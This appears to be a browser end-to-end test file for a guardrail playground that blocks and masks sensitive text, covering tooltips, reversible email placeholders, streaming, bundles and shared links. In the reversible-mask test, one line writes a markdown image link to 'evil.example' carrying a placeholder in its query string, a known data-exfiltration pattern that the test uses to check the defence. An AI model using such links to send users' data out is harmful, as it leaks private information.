// The playground as a person uses it, in both browsers.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { launch } from './lib/browser.mjs';
import * as site from './lib/site.mjs';

/** Plain prose of so many bytes that does not pack well. */
function prose(bytes) {
  const words = 'the river bank of a small town where people walk and talk about their day after work'.split(' ');
  let text = '';
  for (let seed = 1; text.length < bytes; seed = (seed * 48271) % 2147483647) text += `${words[seed % words.length]} `;
  return text;
}

for (const name of site.BROWSERS) {
  describe(`playground in ${name}`, () => {
    let browser;
    let server;
    before(async () => {
      server = await site.serve();
      browser = await launch(name);
    });
    after(async () => {
      await browser?.stop();
      await server?.close();
    });
    const open = () => site.openPlayground(browser, server.url);

    test('first load: the example is checked, its findings are underlined by policy and action', async () => {
      const page = await open();
      assert.match(await site.verdict(page, 'block'), /Blocked.*Project Halcyon: blocks.*Email address: is masked/s);
      const marks = await site.marks(page);
      const of = (text) => marks.find((mark) => mark.text === text)?.classes ?? '';
      assert.match(of('Project Halcyon'), /find-word.*find-block/);
      assert.match(of('ana.perez@example.com'), /find-sensitive.*find-mask/);
      assert.ok(!marks.some((mark) => mark.text.includes('4111')), 'the number with a wrong check digit is no card');
      await page.screenshot('first-load');
      site.quiet(page);
      await page.close();
    });

    test('typing changes what is found; the tooltip says what, why, how sure and what it does', async () => {
      const page = await open();
      await site.paste(page, '.text', '');
      await page.until('the empty state', () => document.querySelector('.empty')?.innerText.includes('Nothing found'));
      await site.verdict(page, 'pass');
      await site.focusEditor(page, '.text');
      await page.type('my card is 4111 1111 1111 1111');
      await site.verdict(page, 'block');
      const at = await page.until('the underlined card', () => {
        const mark = document.querySelector('.text .editor').shadowRoot.querySelector('.find');
        const box = mark?.getBoundingClientRect();
        return box && { x: box.x + box.width / 2, y: box.y + box.height / 2 };
      });
      await page.native.mouse.move(at.x - 3, at.y);
      await page.native.mouse.move(at.x, at.y);
      const tip = await page.until('the tooltip', () =>
        document.querySelector('.text .editor').shadowRoot.querySelector('.finding-tip')?.textContent,
      );
      assert.match(tip, /Card number: blocks.*Sensitive information.*score \d+ of 1000/);
      assert.match(await page.run(() => document.querySelector('.at-cursor').textContent), /Card number blocks/);
      await page.screenshot('tooltip');
      // A word that is cut in two is none: the decision follows each key.
      await page.press('Backspace');
      await site.verdict(page, 'pass');
      site.quiet(page);
      await page.close();
    });

    test('INPUT and OUTPUT decide differently, in words and as JSON', async () => {
      const page = await open();
      await site.paste(page, '.text', 'see wh-ber-01.example.com');
      await site.verdict(page, 'pass');
      await page.clickText('OUTPUT', '.text');
      assert.match(await site.verdict(page, 'block'), /never sees? this answer/);
      await page.clickText('JSON', '.result');
      const json = await page.until('the JSON', () => {
        const host = document.querySelector('.result .tab-fill:not([hidden]) .editor');
        const text = [...host.shadowRoot.querySelectorAll('.cm-line')].map((line) => line.textContent).join('\n');
        return text.includes('GUARDRAIL_INTERVENED') && text;
      });
      assert.match(json, /"actionReason": "Guardrail blocked\."/);
      assert.match(json, /"outputs": \[\s*\{\s*"text": "Sorry, I cannot show this answer\."/);
      await page.screenshot('json');
      site.quiet(page);
      await page.close();
    });

    test('what is deferred is said with its reason', async () => {
      const page = await open();
      await page.clickText('Deferred', '.result');
      const text = await page.until('the deferred', () => {
        const panel = [...document.querySelectorAll('.result .tab-panel')].find((one) => !one.hidden);
        return panel.innerText.includes('Only the cloud can tell') && panel.innerText;
      });
      assert.match(text, /Content filter: Insults|Content filter: INSULTS/i);
      assert.match(text, /Not found here, which does not settle it/);
      await page.screenshot('deferred');
      site.quiet(page);
      await page.close();
    });

    test('masked output and reversible masks: the answer is restored, but not inside a link', async () => {
      const page = await open();
      await site.paste(page, '.text', 'Write to ana@example.com and bob@example.com, then ana@example.com again.');
      await site.verdict(page, 'mask');
      await page.clickText('Masked', '.result');
      await page.until('the masked text', () => {
        const host = document.querySelector('.result .tab-fill:not([hidden]) .editor');
        return host.shadowRoot.textContent.includes('Write to {EMAIL} and {EMAIL}, then {EMAIL} again.');
      });
      await page.screenshot('masked');
      await page.clickText('Reversible', '.result');
      const [sent, map, restored] = await page.until('the placeholders', () => {
        const [sent, restored] = [...document.querySelectorAll('.reversible pre')].map((one) => one.textContent);
        return restored && [sent, document.querySelector('.reversible tbody').innerText, restored];
      });
      assert.equal(sent, 'Write to {EMAIL_1} and {EMAIL_2}, then {EMAIL_1} again.');
      assert.match(map, /\{EMAIL_1\}\s+ana@example\.com\s+\{EMAIL_2\}\s+bob@example\.com/);
      assert.match(restored, /ana@example\.com/);
      await page.click('.reversible textarea');
      await page.pressAll('Control', 'a');
      await page.type('To {EMAIL_2}: ![x](https://evil.example/?q={EMAIL_1})');
      await page.until('the restored answer', () =>
        document.querySelectorAll('.reversible pre')[1].textContent === 'To bob@example.com: ![x](https://evil.example/?q={EMAIL_1})',
      );
      await page.screenshot('reversible');
      site.quiet(page);
      await page.close();
    });

    test('the stream: a step at a time, nothing unchecked is let out, the end is told', async () => {
      const page = await open();
      await site.paste(page, '.text', 'Mail ana@example.com about it, please.');
      await site.verdict(page, 'mask');
      await page.clickText('Stream', '.result');
      let sawHeld = false;
      for (let step = 0; step < 60; step += 1) {
        const before = await page.run(() => document.querySelector('.stream .facts dd').textContent);
        await page.clickText('Step', '.stream');
        const now = await page.until('a step', (before) => {
          const end = document.querySelector('.stream-end').textContent;
          const facts = document.querySelector('.stream .facts dd').textContent;
          return (end !== '' || facts !== before) && {
            end,
            out: document.querySelector('.stream-out').textContent,
            held: document.querySelector('.stream-held').textContent,
          };
        }, before);
        assert.ok(!now.out.includes('ana@'), `let out: ${now.out}`);
        sawHeld ||= now.held.includes('ana@');
        if (step === 6) await page.screenshot('stream');
        if (now.end !== '') break;
      }
      assert.ok(sawHeld, 'the address was seen held back');
      assert.deepEqual(
        await page.run(() => [document.querySelector('.stream-out').textContent, document.querySelector('.stream-end').textContent]),
        ['Mail {EMAIL} about it, please.', 'Let out with masks.'],
      );
      // By the clock, to the end of a text that blocks.
      await site.paste(page, '.text', 'First this, then Project Halcyon, and more.');
      await site.verdict(page, 'block');
      await page.run(() => {
        const speed = document.querySelector('.speed input');
        speed.value = '60';
        speed.dispatchEvent(new Event('input'));
      });
      await page.clickText('Play', '.stream');
      const out = await page.until('the block', () =>
        document.querySelector('.stream-end.block') && document.querySelector('.stream-out').textContent,
      );
      assert.ok(out.startsWith('First this, then ') && !out.includes('Halcyon'), out);
      site.quiet(page);
      await page.close();
    });

    test('timing: real checks in a chart', async () => {
      const page = await open();
      await page.clickText('Timing', '.result');
      await page.clickText('Check this text 200 times', '.result');
      const label = await page.until('the chart', () => {
        const title = document.querySelector('.timing-chart title')?.textContent ?? '';
        return /of 200 checks/.test(title) && title;
      });
      assert.match(label, /half within [\d.]+ (µs|ms), 99 in 100 within/);
      await page.screenshot('timing');
      site.quiet(page);
      await page.close();
    });

    test('every example compiles and is checked', async () => {
      const page = await open();
      const names = await page.run(() => [...document.querySelector('.guardrail select').options].slice(1).map((one) => one.label));
      assert.ok(names.length >= 5);
      for (const example of names) {
        await site.choose(page, example);
        await site.status(page, /compiled to [\d.]+ (KiB|MiB)/);
        await page.until(`a decision on ${example}`, () => document.querySelector('.verdict').dataset.reason === 'ok');
      }
      site.quiet(page);
      await page.close();
    });

    test('a syntax error is shown at its line, and the last guardrail goes on checking', async () => {
      const page = await open();
      await site.paste(page, '.guardrail', '{\n  "name": "broken",\n  "wordPolicyConfig": {,\n}\n');
      assert.match(await site.status(page, /does not compile: 1 error/), /still checked by the last one/);
      const { where, gutter } = await page.until('the problem', () => {
        const host = [...document.querySelectorAll('.guardrail .editor')].find((one) => one.getClientRects().length > 0);
        const marker = host.shadowRoot.querySelector('.cm-lint-marker-error');
        const where = document.querySelector('.problem .where')?.textContent;
        return where && marker && { where, gutter: marker.closest('.cm-gutterElement') !== null };
      });
      assert.match(where, /line 3/);
      assert.ok(gutter);
      await page.screenshot('syntax-error');
      await page.click('.problem');
      const line = await page.until('the cursor at the line', () => {
        const host = [...document.querySelectorAll('.guardrail .editor')].find((one) => one.getClientRects().length > 0);
        return host.shadowRoot.querySelector('.cm-activeLine')?.textContent.includes('wordPolicyConfig');
      });
      assert.ok(line);
      await site.paste(page, '.text', 'Project Halcyon');
      await site.verdict(page, 'block');
      site.quiet(page);
      await page.close();
    });

    test('YAML and an overlay: errors in either file are told apart', async () => {
      const page = await open();
      await site.choose(page, 'SAM template (YAML)');
      await site.status(page, /compiled to/);
      await site.verdict(page, 'block');
      await page.clickText('Overlay', '.guardrail');
      await site.paste(page, '.guardrail', 'legacy_input = "mask"\nno_such_option = 1\n');
      await site.status(page, /does not compile/);
      const where = await page.until('the problem', () => document.querySelector('.problem .where')?.textContent);
      assert.match(where, /overlay, line 2/);
      await page.screenshot('overlay-error');
      site.quiet(page);
      await page.close();
    });

    test('bundles: dropped, truncated, an HTML page instead', async () => {
      const page = await open();
      await site.status(page, /compiled to/);
      const bytes = await site.downloaded(page, 'Bundle for browsers');
      assert.equal(bytes.subarray(0, 8).toString('latin1'), 'EDGERAIL');
      await site.drop(page, '.guardrail', [{ name: 'mine.bundle', bytes }]);
      await site.status(page, /loaded. Unverified/);
      const facts = await page.run(() => document.querySelector('.guardrail .facts').innerText);
      assert.match(facts, /mine\.bundle[\s\S]*browsers[\s\S]*unverified[\s\S]*[0-9a-f]{64}/);
      await site.paste(page, '.text', 'Project Halcyon');
      await site.verdict(page, 'block');
      await page.screenshot('bundle');
      await site.drop(page, '.guardrail', [{ name: 'short.bundle', bytes: bytes.subarray(0, bytes.length >> 1) }]);
      await site.status(page, /cut short or damaged/);
      await site.verdict(page, 'block');
      const html = Buffer.from('<!doctype html><title>404 Not Found</title>');
      await site.drop(page, '.guardrail', [{ name: 'guardrail.bundle', bytes: html }]);
      await site.status(page, /no Edgerail bundle.*HTML/);
      await page.screenshot('html-as-bundle');
      // The same page as a definition: the compiler says what it is.
      await site.drop(page, '.guardrail', [{ name: 'guardrail.json', bytes: html }]);
      await site.status(page, /does not compile/);
      // The twin for servers may be tried, with a warning.
      await site.choose(page, 'Support assistant');
      await site.status(page, /compiled to/);
      const twin = await site.downloaded(page, 'Bundle for servers');
      await site.drop(page, '.guardrail', [{ name: 'twin.bundle', bytes: twin }]);
      await site.banner(page, /This bundle is for servers/);
      site.quiet(page);
      await page.close();
    });

    test('2 MB pasted: refused in clear words at the limit, and the page goes on', async () => {
      const page = await open();
      const text = prose(2 * 1024 * 1024);
      await site.paste(page, '.text', text);
      assert.match(await site.verdict(page, 'block', 'limit_text'), /Blocked, unchecked.*longer than this guardrail takes/s);
      assert.match(await page.run(() => document.querySelector('.length').textContent), /2\.0 MiB/);
      await page.screenshot('2-mb');
      await page.clickText('Share');
      await site.banner(page, /link would have [\d,]+ characters/);
      await site.paste(page, '.text', 'hello');
      await site.verdict(page, 'pass');
      site.quiet(page);
      await page.close();
    });

    test('half a surrogate pair never passes as text', async () => {
      const page = await open();
      await site.paste(page, '.text', 'hello \ud83d there');
      await site.verdict(page, 'block', 'invalid_text');
      site.quiet(page);
      await page.close();
    });

    test('a shared link brings everything back, in the fragment only', async () => {
      const page = await open();
      await site.choose(page, 'Synthesised CDK template');
      await site.status(page, /compiled to/);
      await site.paste(page, '.text', 'shared: reggaeton 😀');
      await page.clickText('OUTPUT', '.text');
      // The clipboard is a matter of permissions that differ between browsers; the link is what counts.
      await page.run(() => {
        navigator.clipboard.writeText = (text) => {
          window.copied = text;
          return Promise.resolve();
        };
      });
      await page.clickText('Share');
      await site.banner(page, /on your clipboard/);
      const link = await page.run(() => window.copied);
      assert.ok(link.startsWith(`${server.url}#v1.`), link);
      const other = await launch(name);
      try {
        const their = await site.openPlayground(other, link);
        assert.equal((await site.shown(their, '.text')).trim(), 'shared: reggaeton 😀');
        assert.equal(await their.run(() => document.querySelector('.text input:checked').value), 'OUTPUT');
        assert.equal(await their.run(() => document.querySelector('.guardrail select').selectedOptions[0].label), 'Synthesised CDK template');
        assert.equal(await their.run(() => location.hash), '', 'what is edited from here on is not the link’s');
        const broken = await other.open(`${link.slice(0, -20)}`);
        await site.banner(broken, /link is damaged/);
        await site.ready(broken);
      } finally {
        await other.stop();
      }
      site.quiet(page);
      await page.close();
    });

    test('a reload keeps everything', async () => {
      const page = await open();
      await site.choose(page, 'Healthcare agent, tier STANDARD');
      await site.status(page, /compiled to/);
      await site.paste(page, '.text', 'kept over the reload');
      await page.clickText('Deferred', '.result');
      await page.until('the state to be kept', async () => {
        const database = await new Promise((resolve) => {
          const request = indexedDB.open('edgerail-www');
          request.onsuccess = () => resolve(request.result);
        });
        const state = await new Promise((resolve) => {
          const request = database.transaction('state').objectStore('state').get('playground');
          request.onsuccess = () => resolve(request.result);
        });
        database.close();
        return state?.text === 'kept over the reload' && state.tab === 'deferred';
      });
      await page.reload();
      await site.ready(page);
      assert.equal((await site.shown(page, '.text')).trim(), 'kept over the reload');
      assert.equal(await page.run(() => document.querySelector('.guardrail select').selectedOptions[0].label), 'Healthcare agent, tier STANDARD');
      assert.equal(await page.run(() => document.querySelector('.result [aria-selected=true]').textContent.startsWith('Deferred')), true);
      await site.choose(page, 'Support assistant');
      site.quiet(page);
      await page.close();
    });

    test('an overlay that goes with a definition can be dropped with it', async () => {
      const page = await open();
      const read = (path) => readFileSync(new URL(`../../${path}`, import.meta.url));
      await site.drop(page, '.guardrail', [
        { name: 'final.toml', bytes: read('examples/judging/final.toml') },
        { name: 'next.json', bytes: read('examples/judging/next.json') },
      ]);
      await site.status(page, /compiled to/);
      assert.equal(
        await page.run(() => document.querySelector('.guardrail select').selectedOptions[0].label),
        'Financial advice, with an overlay',
        'dropped together they are the example',
      );
      site.quiet(page);
      await page.close();
    });
  });
}
